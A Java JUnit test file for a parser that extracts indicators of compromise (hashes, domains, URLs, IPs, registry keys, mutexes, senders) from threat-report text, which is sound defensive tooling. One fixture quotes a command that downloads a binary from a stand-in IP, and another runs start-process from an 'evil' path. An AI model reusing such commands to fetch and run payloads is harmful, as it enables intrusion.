package dev.tocsin.compiler.intake.text;

import static dev.tocsin.compiler.intake.Extractions.held;
import static dev.tocsin.compiler.intake.Extractions.taken;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tocsin.compiler.extraction.Extracted;
import dev.tocsin.compiler.extraction.Extracted.Basis;
import dev.tocsin.compiler.extraction.Extraction;
import dev.tocsin.compiler.indicator.Provenance.Place;
import dev.tocsin.compiler.intake.Extractions;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class TextReaderTest {
    private static final String SHA256 = "9f42bf3a61faaab8f86abb3c7f9db417bffb3474a55169a4efb1d2386545e4e8";

    @Test
    void aDigestIsOneByItsLength() {
        Extraction read =
                Extractions.of(SHA256 + "\n" + SHA256.substring(1) + "\n" + SHA256 + SHA256.substring(0, 39) + "\n");
        assertEquals(List.of("sha256 " + SHA256), taken(read));
        assertEquals(2, held(read).size());
        assertTrue(held(read).get(0).startsWith("not-valid " + SHA256.substring(1)));
    }

    @Test
    void keysOfCiphersAreNoDigests() {
        Extraction read = Extractions.of("Samples\n" + SHA256 + "\n\nRC4 keys\n9f42bf3a61faaab8f86abb3c7f9db417\n");
        assertEquals(List.of("sha256 " + SHA256), taken(read));
        assertEquals(List.of("not-for-detection 9f42bf3a61faaab8f86abb3c7f9db417"), held(read));
    }

    @Test
    void wordsOfCommandsAreNoHosts() {
        Extraction read = Extractions.of("""
                Commands executed:
                tool.exe save backup.save
                run -c "get('http://198.51.100.7/a.bin','b.bin')"
                """);
        assertEquals(List.of("url http://198.51.100.7/a.bin"), taken(read));
        assertTrue(
                held(read).contains("lookalike backup.save"), () -> held(read).toString());
    }

    @Test
    void programsOfWindowsAreNotTakenByName() {
        assertEquals(List.of(), taken(Extractions.of("File names:\n- RunDll32.exe\n")));
    }

    @Test
    void headersOfMailsGiveTheirSenders() {
        Extraction read = Extractions.of("""
                From: "PARCELS.COM" <info@parcels-desk.com>
                boundary="b1_9f42bf3a61faaab8f86abb3c7f9db417"
                URL: hxxp://evil[.]com/a
                """);
        assertEquals(List.of("email info@parcels-desk.com", "url http://evil.com/a"), taken(read));
    }

    @Test
    void thePublishersOwnAddressIsNone() {
        Extraction read = Extractions.of("Contact us at: ioc@eset.com\nevil[.]com\n");
        assertEquals(List.of("domain evil.com"), taken(read));
    }

    @Test
    void theTextOfALinkMakesNoHostOfItsTarget() {
        Extraction read =
                Extractions.of("= A\n\nWe thank http://www.rules-project.net/[the Rules Project] for them.\n");
        assertEquals(List.of(), taken(read));
    }

    @Test
    void aHostBelowARentedSuffixIsNoFile() {
        assertEquals(
                List.of("domain sign-in.netlify.app", "domain evil.com"),
                taken(Extractions.of("sign-in.netlify.app\nevil.[com\n")));
        assertEquals(List.of(), taken(Extractions.of("It ends here.[note] Calculator.app runs.\n")));
    }

    @Test
    void aDigestWithinAUrlOrAGuidIsNone() {
        Extraction read = Extractions.of(
                "URLs\nhxxp://evil[.]com/9cdfb439c7876e703e307864c9167a15/a\n{D7F8FEDF-D9A0-4335-A619-D3BB3EEAEDDB}\n");
        assertEquals(List.of("url http://evil.com/9cdfb439c7876e703e307864c9167a15/a"), taken(read));
    }

    @Test
    void aLineBreakWithinADigestIsUndoneOnlyWhereItIsCertain() {
        assertEquals(
                List.of("sha256 " + SHA256),
                taken(Extractions.of(SHA256.substring(0, 40) + "\n" + SHA256.substring(40) + "\n")));
        String md5 = SHA256.substring(0, 32);
        assertEquals(List.of("md5 " + md5, "md5 " + md5), taken(Extractions.of(md5 + "\n" + md5 + "\n")));
    }

    @Test
    void aLineBreakAfterAnOpenMarkIsUndone() {
        assertEquals(List.of("domain evil.com"), taken(Extractions.of("Domains:\nevil[.]\ncom\n")));
        assertEquals(
                List.of("url http://a.com/", "domain evil.com"),
                taken(Extractions.of("hxxp://a[.]com/\nevil[.]com\n")));
    }

    @Test
    void portsBecomeNotes() {
        Extraction read = Extractions.of("192.0.2.1|443\n192.0.2.2:8080\nevil[.]com:3928\n");
        assertEquals(List.of("ipv4 192.0.2.1", "ipv4 192.0.2.2", "domain evil.com"), taken(read));
        assertEquals("published with |443", note(read, 0));
        assertEquals("published with :3928", note(read, 2));
    }

    @Test
    void filesAreNoHosts() {
        Extraction read = Extractions.of(
                "The actor ran pdfreader.exe, checkupdate.js, config.py and archive.zip, and text.xml. Seen as Spy.Tiny.CL.\n");
        assertEquals(List.of(), taken(read));
        assertEquals(
                List.of(
                        "lookalike pdfreader.exe",
                        "lookalike checkupdate.js",
                        "lookalike config.py",
                        "lookalike archive.zip",
                        "lookalike text.xml",
                        "lookalike Spy.Tiny.CL"),
                held(read));
    }

    @Test
    void hostsThatCouldBeFilesAreHostsWhereTheTextSaysSo() {
        assertEquals(List.of("domain config.py"), taken(Extractions.of("## Domains\n\n- config.py\n")));
        assertEquals(List.of("domain archive.zip"), taken(Extractions.of("it calls archive[.]zip daily\n")));
    }

    @Test
    void linksOfTheArticleAreReferences() {
        Extraction read = Extractions.of("""
                We wrote about it at https://vendor-blog.com/post and saw traffic to hxxp://evil[.]com/gate.php last week again.

                ## References

                - https://other.com/report
                - hxxps://evil2[.]com/x
                """);
        assertEquals(List.of("url http://evil.com/gate.php", "url https://evil2.com/x"), taken(read));
        assertEquals(
                List.of("reference https://vendor-blog.com/post", "reference https://other.com/report"), held(read));
    }

    @Test
    void headingsGiveTypeToWhatHasNoFormOfItsOwn() {
        Extraction read = Extractions.of("""
                == Mutex
                - `Global\\one`

                == Scheduled task names
                - `Adobe Acrobat TaskB`

                == Filenames
                - `%TEMP%\\a b.exe`

                == Registry keys
                - HKCU\\Software\\Evil\\Run

                == User agents
                - Mozilla/4.0 (compatible; MSIE 6.0; evil)

                == Service names
                - EvilService
                """);
        assertEquals(6, taken(read).size(), () -> taken(read).toString());
        assertEquals(
                List.of("mutex", "scheduled-task", "file-path", "registry-key", "user-agent", "service-name"),
                taken(read).stream()
                        .map(item -> item.substring(0, item.indexOf(' ')))
                        .toList());
    }

    @Test
    void aDigestThatTheNoteCallsCleanIsHeldBack() {
        Extraction read = Extractions.of("| SHA-256 | Note |\n|---|---|\n| " + SHA256 + " | Clean file |\n| "
                + SHA256.replace('9', '8') + " | Malicious DLL sideloaded by a clean file of the vendor |\n");
        assertEquals(List.of("benign " + SHA256), held(read).subList(0, 1));
        assertEquals(
                List.of("benign " + SHA256.replace('9', '8')),
                held(Extractions.of(SHA256.replace('9', '8') + " - legitimate executable\n")));
    }

    @Test
    void notesAndRolesAreKept() {
        Extraction read =
                Extractions.of("Truebot C2 addresses:\n192.0.2.1\tCobalt Strike C2\t\n" + SHA256 + " - Meterpreter\n");
        assertEquals("Cobalt Strike C2", note(read, 0));
        assertEquals("Meterpreter", note(read, 1));
        assertEquals(
                "Truebot C2 addresses",
                takenItems(read).get(1).indicator().details().role().orElseThrow());
    }

    @Test
    void listsAreDeclaredAndSentencesAreFound() {
        Extraction read = Extractions.of("Later evil[.]com was contacted by the implant.\n\nIPs\n192.0.2.1\u00a0\n");
        assertEquals(
                List.of(Basis.FOUND, Basis.DECLARED),
                takenItems(read).stream().map(Extracted.Taken::basis).toList());
        var provenance =
                takenItems(read).get(1).indicator().details().provenance().getFirst();
        assertEquals(new Place.Line(4), provenance.place());
        assertEquals(
                "Later evil[.]com was contacted by the implant.",
                takenItems(read)
                        .get(0)
                        .indicator()
                        .details()
                        .provenance()
                        .getFirst()
                        .context());
    }

    @Test
    void whatStandsInACommentIsNotTaken() {
        Extraction read = Extractions.of("192.0.2.0/24 # scanner.example.com\n198.51.100.0/24 # 198.51.100.7\n");
        assertEquals(List.of("cidr 192.0.2.0/24", "cidr 198.51.100.0/24"), taken(read));
        assertEquals(List.of("not-for-detection scanner.example.com", "not-for-detection 198.51.100.7"), held(read));
    }

    @Test
    void urlsWithPlaceholdersAreKnownByTheirHost() {
        assertEquals(List.of("domain evil.com"), taken(Extractions.of("C2:\nhxxp://evil[.]com/<MAC address>/log\n")));
    }

    @Test
    void versionsAreNoAddresses() {
        assertEquals(
                List.of("ipv4 192.0.2.1"),
                taken(Extractions.of("Fixed in version 10.2.3.4; the host 192.0.2.1 ran build 5.6.7.8 of it.\n")));
    }

    @Test
    void aHostWithAPathIsAUrlWithoutItsScheme() {
        Extraction read =
                Extractions.of("evil[.]com/gate.php?id=1&x=2\nwww.short-link.com:8080/3xAbC\n192.0.2.9/a.js\n");
        assertEquals(
                List.of(
                        "domain evil.com",
                        "url ~ evil.com/gate.php?id=1&x=2",
                        "domain www.short-link.com",
                        "url ~ www.short-link.com:8080/3xAbC",
                        "ipv4 192.0.2.9",
                        "url ~ 192.0.2.9/a.js"),
                taken(read).stream().map(TextReaderTest::stretch).toList());
        assertEquals(
                List.of("domain evil.com", "domain evil2.com"),
                taken(Extractions.of("It asks evil[.]com/evil2[.]com in turn.\n")));
        assertEquals(
                List.of(),
                taken(Extractions.of("- github.com/someone/tool\n")).stream()
                        .filter(item -> item.contains("/"))
                        .toList());
    }

    /** A term with a condition shows it; a plain value does not. */
    private static String stretch(String taken) {
        return taken.contains("/") ? taken.replaceFirst(" ", " ~ ") : taken;
    }

    @Test
    void besideItsDigestTheNameOfAFileIsNotTaken() {
        Extraction read = Extractions.of("== Other files\n\n----\n" + SHA256 + " \u2013 abc.bat\n----\n");
        assertEquals(List.of("sha256 " + SHA256), taken(read));
        assertEquals(List.of("lookalike abc.bat"), held(read));
    }

    @Test
    void whatIsWrittenIntoARegistryKeyIsNoPartOfIt() {
        Extraction read = Extractions.of(
                "== Windows registry\n\n----\nHKCU\\Software\\Evil\\Start = \u201c%TEMP%\\a.exe\u201d\n----\n");
        assertEquals(List.of("registry-key HKCU\\Software\\Evil\\Start"), taken(read));
    }

    @Test
    void whereAFileWasBuiltIsNoPathOfAVictim() {
        Extraction read =
                Extractions.of("Paths\n\n- D:\\work\\evil\\Release\\evil.pdb\n- C:\\ProgramData\\evil\\evil.exe\n");
        assertEquals(List.of("file-path C:\\ProgramData\\evil\\evil.exe"), taken(read));
    }

    @Test
    void aCookieIsNoDigest() {
        Extraction read = Extractions.of(
                "Cookie: PHPSESSID=9f42bf3a61faaab8f86abb3c7f9db417\nmd5=9f42bf3a61faaab8f86abb3c7f9db418\n");
        assertEquals(List.of("md5 9f42bf3a61faaab8f86abb3c7f9db418"), taken(read));
        assertEquals(List.of("lookalike 9f42bf3a61faaab8f86abb3c7f9db417"), held(read));
    }

    @Test
    void utf16IsReadWithoutItsMark() {
        byte[] little = "Domains\r\nevil.com\r\n".getBytes(StandardCharsets.UTF_16LE);
        byte[] big = "Domains\r\nevil.com\r\n".getBytes(StandardCharsets.UTF_16BE);
        assertEquals(List.of("domain evil.com"), taken(Extractions.of(little)));
        assertEquals(List.of("domain evil.com"), taken(Extractions.of(big)));
    }

    @Test
    void whatStandsBehindItsLabelIsNoHeading() {
        Extraction read =
                Extractions.of("Service name: EvilService\nBTC: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq\n");
        assertEquals(List.of("service-name EvilService"), taken(read));
    }

    @Test
    void whoWasImpersonatedIsNoSender() {
        Extraction read = Extractions.of("""
                Senders observed
                invoices@evil.com

                Impersonated senders
                invoices@supplier-of-yours.com

                Supporting evidence
                https://research-of-others.com/x
                """);
        assertEquals(List.of("email invoices@evil.com"), taken(read));
    }

    @Test
    void aPathInSingleQuotesEndsWithThem() {
        assertEquals(
                List.of("lookalike C:/evil/"), held(Extractions.of("It runs cd 'C:/evil/';start-process and ends.\n")));
    }

    private static List<Extracted.Taken> takenItems(Extraction extraction) {
        return extraction.items().stream()
                .filter(Extracted.Taken.class::isInstance)
                .map(Extracted.Taken.class::cast)
                .toList();
    }

    private static String note(Extraction extraction, int at) {
        return takenItems(extraction).get(at).indicator().details().note().orElse("");
    }
}
